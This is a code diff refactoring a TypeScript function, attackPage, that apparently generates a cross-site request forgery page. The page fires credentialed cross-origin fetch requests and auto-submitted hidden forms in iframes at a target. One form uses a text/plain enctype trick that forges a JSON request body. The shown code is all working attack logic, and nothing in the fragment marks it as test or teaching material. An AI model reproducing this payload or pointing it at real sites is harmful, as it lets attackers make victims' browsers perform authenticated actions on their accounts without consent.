@@ -58,42 +58,30 @@ function attackPage(target: string): string {
       attempts.push(fetch(target + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => null));
       attempts.push(fetch(target + path, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body }).catch(() => null));
     }
-    forms.forEach(([path, body], i) => {
-      attempts.push(new Promise((resolve) => {
-        const frame = document.createElement('iframe');
-        frame.name = 'f' + i;
-        frame.onload = resolve;
-        document.body.appendChild(frame);
-        const form = document.createElement('form');
-        form.method = 'POST';
-        form.action = target + path;
-        form.enctype = 'text/plain';
-        form.target = frame.name;
+    // Each form posts into a frame of its own; the frame's load is the answer.
+    const post = (name, path, fields, enctype) => new Promise((resolve) => {
+      const frame = document.createElement('iframe');
+      frame.name = name;
+      frame.onload = resolve;
+      document.body.appendChild(frame);
+      const form = document.createElement('form');
+      form.method = 'POST';
+      form.action = target + path;
+      form.enctype = enctype;
+      form.target = name;
+      for (const [k, v] of fields) {
         const field = document.createElement('input');
-        field.name = body.slice(0, -1) + ',"x":"';
-        field.value = '"}';
+        field.name = k;
+        field.value = v;
         form.appendChild(field);
-        document.body.appendChild(form);
-        form.submit();
-      }));
-      attempts.push(new Promise((resolve) => {
-        const frame = document.createElement('iframe');
-        frame.name = 'u' + i;
-        frame.onload = resolve;
-        document.body.appendChild(frame);
-        const form = document.createElement('form');
-        form.method = 'POST';
-        form.action = target + path;
-        form.target = frame.name;
-        for (const [k, v] of Object.entries(JSON.parse(body))) {
-          const field = document.createElement('input');
-          field.name = k;
-          field.value = String(v);
-          form.appendChild(field);
-        }
-        document.body.appendChild(form);
-        form.submit();
-      }));
+      }
+      document.body.appendChild(form);
+      form.submit();
+    });
+    forms.forEach(([path, body], i) => {
+      attempts.push(post('f' + i, path, [[body.slice(0, -1) + ',"x":"', '"}']], 'text/plain'));
+      const fields = Object.entries(JSON.parse(body)).map(([k, v]) => [k, String(v)]);
+      attempts.push(post('u' + i, path, fields, 'application/x-www-form-urlencoded'));
     });
     await Promise.all(attempts);
     document.title = 'done';
